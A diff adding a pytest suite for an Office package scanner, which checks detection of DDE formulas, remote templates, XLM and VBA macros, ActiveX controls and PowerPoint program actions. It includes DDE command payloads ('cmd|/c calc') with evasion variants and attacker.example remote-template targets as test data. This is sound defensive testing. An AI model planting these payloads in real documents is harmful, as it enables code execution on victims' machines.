@@ -1,0 +1,966 @@
+"""The OPC package reader: packages built here (as Office, python-docx, python-pptx and openpyxl
+write them, and hostile variants of each) and oletools' real samples."""
+
+from __future__ import annotations
+
+import io
+import time
+import zipfile
+from collections.abc import Callable, Mapping
+from pathlib import Path
+
+import pytest
+
+from attachguard.formats import opc
+from attachguard.formats.ooxml_xml import is_dde_formula, read_part
+from attachguard.formats.opc import (
+    Embedded,
+    EmbeddedKind,
+    OpcKind,
+    OpcProblem,
+    PackageReport,
+    analyse_package,
+    read_package,
+    resolve,
+    target_kind,
+)
+from support.evasions import CASES, Case
+from support.oletools_data import ole_file, ole_native, read_sample, rels_xml
+
+MS = "http://schemas.microsoft.com/office/2006/relationships/"
+ACTIVEX = "http://schemas.microsoft.com/office/2006/activeX"
+OOXML = "application/vnd.openxmlformats-officedocument."
+S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+STRICT_S = "http://purl.oclc.org/ooxml/spreadsheetml/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+A = "http://schemas.openxmlformats.org/drawingml/2006/main"
+P = "http://schemas.openxmlformats.org/presentationml/2006/main"
+C = "http://schemas.openxmlformats.org/drawingml/2006/chart"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+SHEET_TYPE = f"{OOXML}spreadsheetml.worksheet+xml"
+COMMAND = "cmd|'/c calc'!A1"
+
+Parts = Mapping[str, bytes | str]
+
+
+# -- builders ------------------------------------------------------------------------------------
+
+
+def package(
+    parts: Parts, overrides: dict[str, str], defaults: dict[str, str] | None = None
+) -> bytes:
+    """A zip holding ``[Content_Types].xml`` (Defaults for rels, xml, png, jpeg and
+    ``defaults``; an Override for each of ``overrides``) and ``parts``, in order."""
+    declared = {
+        "rels": "application/vnd.openxmlformats-package.relationships+xml",
+        "xml": "application/xml",
+        "png": "image/png",
+        "jpeg": "image/jpeg",
+        **(defaults or {}),
+    }
+    types = (
+        f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in declared.items())
+        + "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in overrides.items())
+        + "</Types>"
+    )
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", types)
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def doc_props() -> tuple[Parts, dict[str, str]]:
+    core = (
+        f'{XML}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
+        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
+        "<dc:title>Order 4711</dc:title><dc:creator>python-docx</dc:creator>"
+        "</cp:coreProperties>"
+    )
+    app = (
+        f'{XML}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'extended-properties"><Application>Microsoft Office Word</Application></Properties>'
+    )
+    parts: Parts = {"docProps/core.xml": core, "docProps/app.xml": app}
+    types = {
+        "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
+        "docProps/app.xml": f"{OOXML}extended-properties+xml",
+    }
+    return parts, types
+
+
+def root_rels(main: str) -> bytes:
+    return rels_xml(
+        [
+            ("officeDocument", main, False),
+            ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
+             "core-properties", "docProps/core.xml", False),
+            ("extended-properties", "docProps/app.xml", False),
+        ]
+    )  # fmt: skip
+
+
+def docx(
+    body: str = "<w:p><w:r><w:t>Your order has shipped.</w:t></w:r></w:p>",
+    rels: list[tuple[str, str, bool]] | None = None,
+    parts: Parts | None = None,
+    overrides: dict[str, str] | None = None,
+) -> bytes:
+    """A Word document as python-docx writes one: document, styles, settings, header."""
+    spaces = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}"'
+    props, prop_types = doc_props()
+    document = (
+        f"{XML}<w:document {spaces}><w:body>{body}"
+        '<w:sectPr><w:headerReference w:type="default" r:id="rId3"/></w:sectPr>'
+        "</w:body></w:document>"
+    )
+    header = f"{XML}<w:hdr {spaces}><w:p><w:r><w:t>ACME</w:t></w:r></w:p></w:hdr>"
+    base = [("styles", "styles.xml", False), ("settings", "settings.xml", False),
+            ("header", "header1.xml", False)]  # fmt: skip
+    all_parts: dict[str, bytes | str] = {
+        "_rels/.rels": root_rels("word/document.xml"),
+        "word/document.xml": document,
+        "word/_rels/document.xml.rels": rels_xml(base + (rels or [])),
+        "word/styles.xml": f'{XML}<w:styles xmlns:w="{W}"/>',
+        "word/settings.xml": f'{XML}<w:settings xmlns:w="{W}"/>',
+        "word/header1.xml": header,
+        **props,
+        **(parts or {}),
+    }
+    types = {
+        "word/document.xml": f"{OOXML}wordprocessingml.document.main+xml",
+        "word/styles.xml": f"{OOXML}wordprocessingml.styles+xml",
+        "word/settings.xml": f"{OOXML}wordprocessingml.settings+xml",
+        "word/header1.xml": f"{OOXML}wordprocessingml.header+xml",
+        **prop_types,
+        **(overrides or {}),
+    }
+    return package(all_parts, types)
+
+
+def worksheet(cells: str = '<c r="A1"><v>42</v></c><c r="B1"><f>A1*2</f><v>84</v></c>') -> str:
+    return f'{XML}<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData><row r="1">{cells}</row>' + (
+        "</sheetData></worksheet>"
+    )
+
+
+def prefixed_sheet(formula: str) -> str:
+    """A worksheet written with the prefix ``x:`` for SpreadsheetML."""
+    return (
+        f'{XML}<x:worksheet xmlns:x="{S}"><x:sheetData><x:row r="1"><x:c r="B1"><x:f>{formula}'
+        "</x:f></x:c></x:row></x:sheetData></x:worksheet>"
+    )
+
+
+def formula_sheet(formula: str) -> str:
+    """A worksheet whose B1 holds ``formula``, already written as XML."""
+    return worksheet(f'<c r="A1"><v>1</v></c><c r="B1"><f>{formula}</f><v>0</v></c>')
+
+
+def xlsx(
+    sheet: str | bytes | None = None,
+    *,
+    sheet_part: str = "xl/worksheets/sheet1.xml",
+    rels: list[tuple[str, str, bool]] | None = None,
+    parts: Parts | None = None,
+    overrides: dict[str, str] | None = None,
+    names: str = "",
+    main_type: str = f"{OOXML}spreadsheetml.sheet.main+xml",
+) -> bytes:
+    """An Excel workbook as openpyxl writes one, its sheet ``sheet`` stored at ``sheet_part``
+    (reached from the workbook by an absolute target), more relationships and parts."""
+    props, prop_types = doc_props()
+    workbook = (
+        f'{XML}<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Orders" sheetId="1" '
+        f'r:id="rId1"/></sheets>{names}<calcPr calcId="124519"/></workbook>'
+    )
+    sst = f'{XML}<sst xmlns="{S}" count="1" uniqueCount="1"><si><t>Order</t></si></sst>'
+    all_parts: dict[str, bytes | str] = {
+        "_rels/.rels": root_rels("xl/workbook.xml"),
+        "xl/workbook.xml": workbook,
+        "xl/_rels/workbook.xml.rels": rels_xml(
+            [
+                ("worksheet", "/" + sheet_part, False),
+                ("styles", "styles.xml", False),
+                ("sharedStrings", "sharedStrings.xml", False),
+                *(rels or []),
+            ]
+        ),
+        sheet_part: worksheet() if sheet is None else sheet,
+        "xl/styles.xml": f'{XML}<styleSheet xmlns="{S}"/>',
+        "xl/sharedStrings.xml": sst,
+        **props,
+        **(parts or {}),
+    }
+    types = {
+        "xl/workbook.xml": main_type,
+        sheet_part: SHEET_TYPE,
+        "xl/styles.xml": f"{OOXML}spreadsheetml.styles+xml",
+        "xl/sharedStrings.xml": f"{OOXML}spreadsheetml.sharedStrings+xml",
+        **prop_types,
+        **(overrides or {}),
+    }
+    return package(all_parts, types)
+
+
+def slide_xml(shape: str = "") -> str:
+    spaces = f'xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"'
+    return (
+        f'{XML}<p:sld {spaces}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
+        "<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr>"
+        f'<p:cNvPr id="2" name="Button">{shape}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
+        "<p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>Track your order</a:t></a:r></a:p>"
+        "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
+    )
+
+
+def pptx(
+    shape: str = "",
+    rels: list[tuple[str, str, bool]] | None = None,
+    parts: Parts | None = None,
+    overrides: dict[str, str] | None = None,
+) -> bytes:
+    """A presentation as python-pptx writes one (master, layout, theme, one slide whose button
+    shape carries ``shape``; the slide's relationships after its layout are ``rels``)."""
+    spaces = f'xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"'
+    props, prop_types = doc_props()
+    deck = (
+        f'{XML}<p:presentation {spaces}><p:sldMasterIdLst><p:sldMasterId id="2147483648" '
+        'r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/>'
+        '</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>'
+    )
+    master = f"{XML}<p:sldMaster {spaces}><p:cSld><p:spTree/></p:cSld></p:sldMaster>"
+    layout = f"{XML}<p:sldLayout {spaces}><p:cSld><p:spTree/></p:cSld></p:sldLayout>"
+    theme = f'{XML}<a:theme xmlns:a="{A}" name="Office Theme"><a:themeElements/></a:theme>'
+    all_parts: dict[str, bytes | str] = {
+        "_rels/.rels": root_rels("ppt/presentation.xml"),
+        "ppt/presentation.xml": deck,
+        "ppt/_rels/presentation.xml.rels": rels_xml(
+            [
+                ("slideMaster", "slideMasters/slideMaster1.xml", False),
+                ("slide", "slides/slide1.xml", False),
+                ("theme", "theme/theme1.xml", False),
+            ]
+        ),
+        "ppt/slideMasters/slideMaster1.xml": master,
+        "ppt/slideMasters/_rels/slideMaster1.xml.rels": rels_xml(
+            [
+                ("slideLayout", "../slideLayouts/slideLayout1.xml", False),
+                ("theme", "../theme/theme1.xml", False),
+            ]
+        ),
+        "ppt/slideLayouts/slideLayout1.xml": layout,
+        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": rels_xml(
+            [("slideMaster", "../slideMasters/slideMaster1.xml", False)]
+        ),
+        "ppt/theme/theme1.xml": theme,
+        "ppt/slides/slide1.xml": slide_xml(shape),
+        "ppt/slides/_rels/slide1.xml.rels": rels_xml(
+            [("slideLayout", "../slideLayouts/slideLayout1.xml", False), *(rels or [])]
+        ),
+        **props,
+        **(parts or {}),
+    }
+    types = {
+        "ppt/presentation.xml": f"{OOXML}presentationml.presentation.main+xml",
+        "ppt/slideMasters/slideMaster1.xml": f"{OOXML}presentationml.slideMaster+xml",
+        "ppt/slideLayouts/slideLayout1.xml": f"{OOXML}presentationml.slideLayout+xml",
+        "ppt/theme/theme1.xml": f"{OOXML}theme+xml",
+        "ppt/slides/slide1.xml": f"{OOXML}presentationml.slide+xml",
+        **prop_types,
+        **(overrides or {}),
+    }
+    return package(all_parts, types)
+
+
+def rewrite(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
+    """The zip ``data`` with its member ``name`` changed."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
+        for info in old.infolist():
+            content = old.read(info)
+            new.writestr(info, change(content) if info.filename == name else content)
+    return out.getvalue()
+
+
+def threats(report: PackageReport) -> list[tuple[OpcKind, str, str]]:
+    """(kind, location, label) of every problem that is not informational."""
+    return [(p.kind, p.location, p.label) for p in report.problems if not p.kind.info]
+
+
+def info(report: PackageReport) -> list[tuple[OpcKind, str]]:
+    return [(p.kind, p.location) for p in report.problems if p.kind.info]
+
+
+# -- benign packages ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("build", [docx, xlsx, pptx], ids=["docx", "xlsx", "pptx"])
+def test_documents_as_libraries_write_them_have_no_problems(build: Callable[[], bytes]) -> None:
+    report = analyse_package(build())
+    assert report.problems == ()
+    assert report.vba_parts == () and report.embedded == ()
+
+
+def test_parts_are_reached_through_relationships_with_their_content_types() -> None:
+    package = read_package(zipfile.ZipFile(io.BytesIO(xlsx())))  # an open zip, or bytes
+    main = package.main
+    assert main is not None and main.name == "xl/workbook.xml"
+    sheet = package.part("/XL/Worksheets/Sheet1.xml")  # OPC compares names without case
+    assert sheet is not None
+    assert sheet.content_type == SHEET_TYPE
+    assert sheet.reached_by == (f"{R}/worksheet",)
+    styles = package.part("xl/styles.xml")
+    assert styles is not None and styles.content_type == f"{OOXML}spreadsheetml.styles+xml"
+    assert package.parts_of_kind(SHEET_TYPE) == [sheet]
+
+
+def test_word_parts_are_listed_for_field_analysis() -> None:
+    # a header at an unusual path, its content type only the xml Default: its root says Word
+    parts: Parts = {"word/odd/place.xml": f'{XML}<w:ftr xmlns:w="{W}"/>'}
+    report = analyse_package(docx(rels=[("footer", "odd/place.xml", False)], parts=parts))
+    assert report.problems == ()
+    assert set(report.word_parts) == {
+        "word/document.xml", "word/styles.xml", "word/settings.xml", "word/header1.xml",
+        "word/odd/place.xml",
+    }  # fmt: skip
+
+
+# -- relationship targets ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("source", "target", "expected"),
+    [
+        ("word/document.xml", "media/image1.png", "word/media/image1.png"),
+        ("word/document.xml", "../customXml/item1.xml", "customxml/item1.xml"),
+        ("word/document.xml", "/xl/x.xml", "xl/x.xml"),
+        ("word/document.xml", "media/image%201.png", "word/media/image 1.png"),
+        ("word/document.xml", "media/Image1.PNG#frag", "word/media/image1.png"),
+        ("word/document.xml", "..\\media\\a.png", "media/a.png"),
+        ("word/document.xml", "../../../../x.xml", "x.xml"),
+        ("", "word/document.xml", "word/document.xml"),
+        ("word/document.xml", "https://example.com/x.png", None),
+        ("word/document.xml", "\\\\host\\share\\x.png", None),
+        ("word/document.xml", "C:\\x.png", None),
+        ("word/document.xml", "#bookmark", None),
+    ],
+)
+def test_targets_resolve_against_their_source(source: str, target: str, expected: str) -> None:
+    assert resolve(source, target) == expected
+
+
+@pytest.mark.parametrize(
+    ("target", "kind"),
+    [
+        ("https://attacker.example/t.dotm", "remote"),
+        ("ftp://attacker.example/t.dotm", "remote"),
+        ("\\\\attacker.example\\share\\t.dotm", "remote"),
+        ("//attacker.example/share/t.dotm", "remote"),
+        ("file://attacker.example/share/t.dotm", "remote"),
+        ("file:////attacker.example/share/t.dotm", "remote"),
+        ("mhtml:https://attacker.example/x!x-usc:https://attacker.example/y", "remote"),
+        ("%5c%5cattacker.example%5cshare", "remote"),
+        ("  \t\\\\attacker.example\\share", "remote"),
+        ("file:///C:/Users/me/Templates/Letter.dotx", "local"),
+        ("C:\\Users\\me\\Book2.xlsx", "local"),
+        ("\\Windows\\System32\\calc.exe", "local"),
+        ("..\\..\\Windows\\System32\\calc.exe", "local"),
+        ("mailto:orders@shop.example", "mail"),
+        ("Book2.xlsx", "relative"),
+        ("Budgets/2024.xlsx", "relative"),
+    ],
+)
+def test_link_targets_are_classified(target: str, kind: str) -> None:
+    assert target_kind(target) == kind
+
+
+# -- DDE in spreadsheets -----------------------------------------------------------------------
+
+
+def test_dde_formula_in_a_sheet_reached_only_through_relationships() -> None:
+    data = xlsx(formula_sheet(COMMAND.replace("'", "&apos;")), sheet_part="xl/foo/bar.bin.xml")
+    report = analyse_package(data)
+    assert threats(report) == [(OpcKind.DDE, "xl/foo/bar.bin.xml", "formula")]
+    [problem] = report.problems
+    assert problem.message == "a formula that starts another program through DDE"
+    assert "calc" not in repr(problem)  # the formula is file content: never in a problem
+
+
+@pytest.mark.parametrize(
+    "sheet",
+    [
+        prefixed_sheet(COMMAND),
+        formula_sheet("cmd&#124;'/c calc'!A1"),
+        formula_sheet("cmd&#x7C;'/c calc'!A1"),
+        formula_sheet("<![CDATA[cmd|'/c calc'!A1]]>"),
+        formula_sheet("cmd<![CDATA[|]]>'/c calc'!A1"),
+        formula_sheet("MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
+        formula_sheet("@SUM(1+1)*cmd|' /C calc'!A0"),
+        formula_sheet("cmd |  '/c calc'!A1"),
+        formula_sheet("'cmd'|'/c calc'!A1"),
+        formula_sheet('IF(1,"x",cmd|\'/c calc\'!A1)'),
+        formula_sheet('"unterminated|'),
+        worksheet(f"<c r='B1'><f>{COMMAND}</f></c>").replace(S, STRICT_S),
+    ],
+    ids=["prefixed", "char-ref", "hex-char-ref", "cdata", "cdata-pipe", "msexcel", "after-sum",
+         "spaces", "quoted-app", "in-if", "unterminated", "strict"],
+)  # fmt: skip
+def test_dde_formula_however_written(sheet: str) -> None:
+    report = analyse_package(xlsx(sheet))
+    assert threats(report) == [(OpcKind.DDE, "xl/worksheets/sheet1.xml", "formula")]
+
+
+def test_dde_formula_after_blanks() -> None:
+    # without an XML declaration, XML may begin with any number of blanks
+    sheet = " \r\n" * 100 + formula_sheet(COMMAND).removeprefix(XML)
+    report = analyse_package(xlsx(sheet))
+    assert threats(report) == [(OpcKind.DDE, "xl/worksheets/sheet1.xml", "formula")]
+
+
+def test_dde_formula_in_utf16() -> None:
+    sheet = formula_sheet(COMMAND).replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    report = analyse_package(xlsx(sheet.encode("utf-16")))
+    assert threats(report) == [(OpcKind.DDE, "xl/worksheets/sheet1.xml", "formula")]
+
+
+@pytest.mark.parametrize(
+    ("names", "cells"),
+    [
+        (f'<definedNames><definedName name="x">{COMMAND}</definedName></definedNames>', ""),
+        ("", f"</row></sheetData><conditionalFormatting sqref='A1'><cfRule type='expression' "
+             f"priority='1'><formula>{COMMAND}</formula></cfRule></conditionalFormatting>"
+             "<sheetData><row r='2'>"),
+    ],
+    ids=["defined-name", "conditional-format"],
+)  # fmt: skip
+def test_dde_in_other_formulas(names: str, cells: str) -> None:
+    report = analyse_package(xlsx(worksheet(cells) if cells else None, names=names))
+    where = "xl/workbook.xml" if names else "xl/worksheets/sheet1.xml"
+    assert threats(report) == [(OpcKind.DDE, where, "formula")]
+
+
+@pytest.mark.parametrize(
+    "sheet",
+    [
+        formula_sheet('"a|b"'),
+        formula_sheet('IF(A1="x|y",1,0)'),
+        formula_sheet("SUM('Q1|Q2'!A1:A3)"),
+        formula_sheet("SUM(Table1[a|b])"),
+        formula_sheet("SUM(Table1[[#This Row],[a|b]])"),
+        worksheet('<c r="A1" t="inlineStr"><is><t>cmd|\'/c calc\'!A1</t></is></c>'),
+        worksheet(f"<c r='A1'><v>{COMMAND}</v></c>"),
+        worksheet(f'<c r="A1"><f xmlns="urn:not-excel">{COMMAND}</f></c>'),
+    ],
+    ids=["literal", "literal-in-if", "quoted-sheet", "table-column", "structured-ref",
+         "text-cell", "value", "foreign-namespace"],
+)  # fmt: skip
+def test_pipes_that_are_not_dde(sheet: str) -> None:
+    assert analyse_package(xlsx(sheet)).problems == ()
+
+
+def test_dde_command_in_shared_strings_is_text() -> None:
+    sst = f'{XML}<sst xmlns="{S}"><si><t>{COMMAND}</t></si></sst>'
+    assert analyse_package(xlsx(parts={"xl/sharedStrings.xml": sst})).problems == ()
+
+
+@pytest.mark.parametrize(("element", "label"), [("ddeLink", "ddeLink"), ("oleLink", "oleLink")])
+def test_external_link_part_at_an_unusual_path(element: str, label: str) -> None:
+    link = (
+        f'{XML}<externalLink xmlns="{S}"><{element} ddeService="cmd" ddeTopic="/c calc" '
+        'progId="Package"/></externalLink>'
+    )
+    data = xlsx(rels=[("externalLink", "../links/l1.xml", False)], parts={"links/l1.xml": link})
+    assert threats(analyse_package(data)) == [(OpcKind.DDE, "links/l1.xml", label)]
+
+
+def test_external_link_to_a_workbook_beside_the_document_is_not_dde() -> None:
+    link = (
+        f'{XML}<externalLink xmlns="{S}"><externalBook r:id="rId1" xmlns:r="{R}"/></externalLink>'
+    )
+    parts: Parts = {
+        "xl/externalLinks/externalLink1.xml": link,
+        "xl/externalLinks/_rels/externalLink1.xml.rels": rels_xml(
+            [("externalLinkPath", "Book2.xlsx", True)]
+        ),
+    }
+    rels = [("externalLink", "externalLinks/externalLink1.xml", False)]
+    assert analyse_package(xlsx(rels=rels, parts=parts)).problems == ()
+
+
+def test_unreachable_sheet_is_information_only() -> None:
+    # Excel never reads a part that no relationship reaches, whatever its name says
+    data = xlsx(parts={"xl/worksheets/sheet2.xml": formula_sheet(COMMAND)})
+    report = analyse_package(data)
+    assert threats(report) == []
+    assert info(report) == [(OpcKind.UNREACHABLE, "xl/worksheets/sheet2.xml")]
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [COMMAND, "=cmd|'/c calc'!A1", "a&b|c!d", "'x'|'y'!z", '"open|', "[a]x|y!z"],
+)
+def test_is_dde_formula(formula: str) -> None:
+    assert is_dde_formula(formula)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['"' * 32_001 + "|", "'" * 32_001 + "|", "[" * 32_000 + "|", '"a' * 16_000 + "|"],
+    ids=["quotes", "apostrophes", "brackets", "open-strings"],
+)
+def test_hostile_formulas_are_checked_in_linear_time(formula: str) -> None:
+    start = time.process_time()
+    is_dde_formula(formula)
+    assert time.process_time() - start < 0.1
+
+
+@pytest.mark.parametrize(
+    "formula", ["A1*2", '"a|b"', "'a|b'!A1", "T[x|y]", 'CONCAT("|",A1)', '"say ""|"" ok"', ""]
+)
+def test_is_not_dde_formula(formula: str) -> None:
+    assert not is_dde_formula(formula)
+
+
+# -- macros --------------------------------------------------------------------------------------
+
+
+MACRO_SHEET = (
+    f'{XML}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
+)
+
+
+def test_macro_sheet_at_an_unusual_path() -> None:
+    rels = [(f"{MS}xlMacrosheet", "hidden/x.xml", False)]
+    data = xlsx(rels=rels, parts={"xl/hidden/x.xml": MACRO_SHEET})
+    report = analyse_package(data)
+    assert threats(report) == [(OpcKind.XLM, "xl/hidden/x.xml", "")]
+    assert report.problems[0].message == "an Excel 4 (XLM) macro sheet"
+
+
+def test_macro_sheet_by_content_type_or_root_element() -> None:
+    # reached as a worksheet, but its content type (or its root element) says macro sheet
+    by_type = xlsx(MACRO_SHEET, overrides={
+        "xl/worksheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"})  # fmt: skip
+    by_root = xlsx(MACRO_SHEET)
+    for data in (by_type, by_root):
+        assert threats(analyse_package(data)) == [(OpcKind.XLM, "xl/worksheets/sheet1.xml", "")]
+
+
+def vba_project() -> bytes:
+    return ole_file({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})
+
+
+def test_vba_project_at_an_unusual_path_is_handed_back() -> None:
+    rels = [(f"{MS}vbaProject", "media/logo.png", False)]
+    data = xlsx(rels=rels, parts={"xl/media/logo.png": vba_project()})
+    report = analyse_package(data)
+    assert threats(report) == [(OpcKind.VBA, "xl/media/logo.png", "")]
+    assert report.vba_parts == ("xl/media/logo.png",)
+    assert report.embedded == ()  # an OLE file, but not an embedded object
+    assert report.package.read(report.vba_parts[0]) == vba_project()
+
+
+def test_vba_project_by_content_type() -> None:
+    rels = [("customData", "stuff.bin", False)]
+    overrides = {"xl/stuff.bin": "application/vnd.ms-office.vbaProject"}
+    data = xlsx(rels=rels, parts={"xl/stuff.bin": vba_project()}, overrides=overrides)
+    assert analyse_package(data).vba_parts == ("xl/stuff.bin",)
+
+
+def test_activex_control_is_reported_once() -> None:
+    control = f'{XML}<ax:ocx xmlns:ax="{ACTIVEX}" ax:classid="{{8BD21D40-EC42-11CE-9E0D}}"/>'
+    parts: Parts = {
+        "word/activeX/activeX1.xml": control,
+        "word/activeX/_rels/activeX1.xml.rels": rels_xml(
+            [(f"{MS}activeXControlBinary", "activeX1.bin", False)]
+        ),
+        "word/activeX/activeX1.bin": ole_file({"Contents": b"\x00" * 16}),
+    }
+    overrides = {"word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}
+    report = analyse_package(docx(rels=[("control", "activeX/activeX1.xml", False)],
+                                  parts=parts, overrides=overrides))  # fmt: skip
+    assert threats(report) == [(OpcKind.ACTIVEX, "word/activeX/activeX1.xml", "")]
+    assert report.embedded == ()
+
+
+# -- external relationships --------------------------------------------------------------------
+
+
+def settings_rels(rels: list[tuple[str, str, bool]]) -> bytes:
+    return docx(parts={"word/_rels/settings.xml.rels": rels_xml(rels)})
+
+
+def test_remote_template() -> None:
+    report = analyse_package(
+        settings_rels([("attachedTemplate", "http://attacker.example/t.dotm", True)])
+    )
+    assert threats(report) == [
+        (OpcKind.EXTERNAL_LINK, "word/_rels/settings.xml.rels", "attachedTemplate")
+    ]
+    assert (
+        report.problems[0].message == "a template loaded from outside the file (a network address)"
+    )
+    assert "attacker" not in repr(report.problems)
+
+
+@pytest.mark.parametrize(
+    ("rel_type", "target"),
+    [
+        ("image", "\\\\attacker.example\\share\\logo.png"),
+        ("frame", "https://attacker.example/frame.html"),
+        ("subDocument", "file://attacker.example/share/part.docx"),
+        ("oleObject", "mhtml:https://attacker.example/x!x-usc:https://attacker.example/y"),
+        ("package", "C:\\Windows\\System32\\calc.exe"),
+        ("externalLinkPath", "//attacker.example/share/Book2.xlsx"),
+        ("http://example.com/relationships/webTracker", "https://attacker.example/pixel.gif"),
+        ("attachedTemplate", "\\\\attacker.example\\share\\t.dotm"),
+    ],
+)
+def test_external_relationships_that_office_follows(rel_type: str, target: str) -> None:
+    report = analyse_package(docx(rels=[(rel_type, target, True)]))
+    label = rel_type.rsplit("/", 1)[-1]
+    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", label)]
+
+
+def test_internal_relationship_with_a_url_target_counts_as_external() -> None:
+    report = analyse_package(docx(rels=[("image", "https://attacker.example/a.png", False)]))
+    assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "image")]
+
+
+@pytest.mark.parametrize(
+    ("rel_type", "target"),
+    [
+        ("hyperlink", "https://shop.example/orders/4711"),
+        ("hyperlink", "\\\\fileserver\\orders\\4711.pdf"),  # a click away, like any link
+        ("hyperlink", "mailto:orders@shop.example"),
+        ("attachedTemplate", "file:///C:\\Users\\me\\Custom%20Office%20Templates\\Letter.dotx"),
+        ("externalLinkPath", "Book2.xlsx"),
+    ],
+)
+def test_external_relationships_that_stay_allowed(rel_type: str, target: str) -> None:
+    assert analyse_package(docx(rels=[(rel_type, target, True)])).problems == ()
+
+
+# -- PowerPoint actions --------------------------------------------------------------------------
+
+
+def action(element: str, verb: str, rel: str = "") -> str:
+    return f'<a:{element} r:id="{rel}" action="{verb}"/>'
+
+
+@pytest.mark.parametrize(
+    ("shape", "message"),
+    [
+        (action("hlinkHover", "ppaction://program", "rId2"),
+         "a PowerPoint action that starts a program when the pointer moves over it"),
+        (action("hlinkClick", "ppaction://program", "rId2"),
+         "a PowerPoint action that starts a program on click"),
+        (action("hlinkClick", "ppaction://macro?name=Module1.Run"),
+         "a PowerPoint action that runs a macro on click"),
+        (action("hlinkHover", "PPAction://OLE?verb=0"),
+         "a PowerPoint action that runs an embedded object when the pointer moves over it"),
+        (action("hlinkClick", "ppaction://somethingnew"),
+         "a PowerPoint action of an unknown kind on click"),
+        (action("hlinkHover", "", "rId2"),
+         "a PowerPoint link outside the file that opens when the pointer moves over it"),
+    ],
+    ids=["program-hover", "program-click", "macro", "ole", "unknown", "hover-link"],
+)  # fmt: skip
+def test_actions_that_run_something(shape: str, message: str) -> None:
+    rels = [("hyperlink", "file:///C:/Windows/System32/calc.exe", True)]
+    report = analyse_package(pptx(shape, rels))
+    assert [(p.kind, p.location) for p in report.problems] == [
+        (OpcKind.ACTION, "ppt/slides/slide1.xml")
+    ]
+    assert report.problems[0].message == message
+
+
+@pytest.mark.parametrize(
+    "shape",
+    [
+        action("hlinkClick", "ppaction://hlinkshowjump?jump=nextslide"),
+        action("hlinkHover", "ppaction://hlinkshowjump?jump=nextslide"),
+        action("hlinkClick", "ppaction://hlinksldjump", "rId3"),
+        action("hlinkClick", "ppaction://noaction"),
+        action("hlinkClick", "", "rId2"),
+    ],
+    ids=["show-jump", "show-jump-hover", "slide-jump", "noaction", "hyperlink-click"],
+)
+def test_actions_that_stay_allowed(shape: str) -> None:
+    rels = [("hyperlink", "https://shop.example/track", True),
+            ("slide", "slide1.xml", False)]  # fmt: skip
+    assert analyse_package(pptx(shape, rels)).problems == ()
+
+
+# -- embedded objects ----------------------------------------------------------------------------
+
+
+def chart(rel_type: str = "package", target: str = "../embeddings/Microsoft_Excel_Worksheet.xlsx"
+          ) -> tuple[Parts, dict[str, str]]:  # fmt: skip
+    """A chart part whose data is the embedded workbook ``target``, as Office stores it."""
+    space = (
+        f'{XML}<c:chartSpace xmlns:c="{C}" xmlns:a="{A}" xmlns:r="{R}"><c:chart><c:plotArea>'
+        "<c:barChart><c:ser><c:val><c:numRef><c:f>Sheet1!$B$2:$B$5</c:f></c:numRef></c:val>"
+        '</c:ser></c:barChart></c:plotArea></c:chart><c:externalData r:id="rId1">'
+        '<c:autoUpdate val="0"/></c:externalData></c:chartSpace>'
+    )
+    parts: Parts = {
+        "ppt/charts/chart1.xml": space,
+        "ppt/charts/_rels/chart1.xml.rels": rels_xml([(rel_type, target, False)]),
+        "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(),
+    }
+    types = {
+        "ppt/charts/chart1.xml": f"{OOXML}drawingml.chart+xml",
+        "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": f"{OOXML}spreadsheetml.sheet",
+    }
+    return parts, types
+
+
+def test_chart_workbook_is_content_to_scan_not_a_problem() -> None:
+    parts, overrides = chart()
+    data = pptx(rels=[("chart", "../charts/chart1.xml", False)], parts=parts,
+                overrides=overrides)  # fmt: skip
